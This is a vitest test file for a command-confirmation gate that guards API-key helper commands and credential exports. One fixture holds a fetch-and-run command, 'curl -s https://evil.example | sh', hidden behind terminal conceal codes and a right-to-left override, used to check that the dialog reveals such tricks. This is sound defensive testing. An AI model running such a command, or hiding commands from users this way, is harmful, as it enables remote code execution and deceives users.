import { describe, expect, it } from 'vitest';
import { CommandGate, commandDialogText, confirmationFor } from '../../main/core/command-confirm';

const helper = { name: 'Vault', command: 'vault kv get -field=key secret/anthropic' };
const bedrock = { name: 'CI', credentialExport: 'aws configure export-credentials --profile ci' };
const CONTROLS = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/; // eslint-disable-line no-control-regex

describe('confirmationFor: which changes need the user’s answer', () => {
  it('a new command (key helper or credential command) and a bundle’s command', () => {
    expect(confirmationFor(undefined, helper, 'add')).toEqual({
      profileName: 'Vault',
      command: helper.command,
      why: 'new-command',
    });
    expect(confirmationFor(undefined, bedrock, 'add')).toMatchObject({ command: bedrock.credentialExport });
    expect(confirmationFor(undefined, bedrock, 'bundle')).toMatchObject({ why: 'bundle-command' });
    expect(confirmationFor(undefined, { name: 'Key' }, 'add')).toBeUndefined();
  });

  it('an update: a changed command, or the helper’s key sent to a new base URL; nothing else', () => {
    expect(confirmationFor(helper, { ...helper, command: 'sh x' }, 'update')).toMatchObject({
      why: 'changed-command',
      command: 'sh x',
    });
    expect(confirmationFor(helper, { ...helper, name: 'Renamed' }, 'update')).toBeUndefined();
    const moved = confirmationFor(helper, { ...helper, baseUrl: 'https://gw.example.com' }, 'update');
    expect(moved).toEqual({
      profileName: 'Vault',
      command: helper.command,
      why: 'key-destination',
      baseUrl: 'https://gw.example.com',
    });
    const away = { ...helper, baseUrl: 'https://gw.example.com/' };
    expect(confirmationFor(away, { ...helper, baseUrl: 'https://gw.example.com' }, 'update')).toBeUndefined();
    expect(confirmationFor(away, { ...helper, baseUrl: 'https://other.example.com' }, 'update')).toMatchObject({
      previousBaseUrl: 'https://gw.example.com/',
    });
    expect(confirmationFor(away, helper, 'update')).toBeUndefined(); // back to the default endpoint
  });
});

describe('CommandGate', () => {
  it('refuses without a port, and unless the answer is exactly true', async () => {
    await expect(new CommandGate(undefined).check(undefined, helper, 'add')).rejects.toMatchObject({
      kind: 'command-not-confirmed',
    });
    const truthy = new CommandGate(async () => 1 as unknown as boolean);
    await expect(truthy.check(undefined, helper, 'add')).rejects.toMatchObject({ kind: 'command-not-confirmed' });
    await expect(new CommandGate(async () => true).check(undefined, helper, 'add')).resolves.toBeUndefined();
  });

  it('asks one question at a time: a second request while a dialog is open is refused without a dialog', async () => {
    let answer!: (v: boolean) => void;
    let asked = 0;
    const gate = new CommandGate(() => (asked++, new Promise<boolean>((r) => (answer = r))));
    const first = gate.check(undefined, helper, 'add');
    await expect(gate.check(undefined, bedrock, 'add')).rejects.toMatchObject({ kind: 'command-not-confirmed' });
    expect(asked).toBe(1);
    answer(true);
    await expect(first).resolves.toBeUndefined();
    const third = gate.check(undefined, bedrock, 'add'); // the dialog is closed: asked again
    answer(false);
    await expect(third).rejects.toMatchObject({ message: 'Nothing was saved: the command was not confirmed.' });
    expect(asked).toBe(2);
  });
});

describe('commandDialogText', () => {
  it('shows the profile name and the whole command, every control character made visible', () => {
    const command = '/opt/creds\x1b[8m; curl -s https://evil.example | sh\x1b[0m\n\u202eexit';
    const t = commandDialogText({ profileName: 'Old\x07name', command, why: 'changed-command' });
    expect(t.message).toBe('Change the command of “Old\\x07name”?');
    expect(t.detail).toContain('Command: /opt/creds\\x1b[8m; curl -s https://evil.example | sh\\x1b[0m\\n\\u202eexit');
    expect(t.detail).toContain('Profile: Old\\x07name');
    expect(`${t.message}${t.detail.replace(/\n/g, '')}`).not.toMatch(CONTROLS);
  });

  it('a key sent elsewhere names both addresses', () => {
    const t = commandDialogText({
      profileName: 'Vault',
      command: 'vault read',
      why: 'key-destination',
      baseUrl: 'https://collector.example.net',
    });
    expect(t.message).toBe('Send the key of “Vault” to another address?');
    expect(t.detail).toContain('sent to: https://collector.example.net');
    expect(t.detail).toContain('(before: the default Anthropic API)');
  });
});
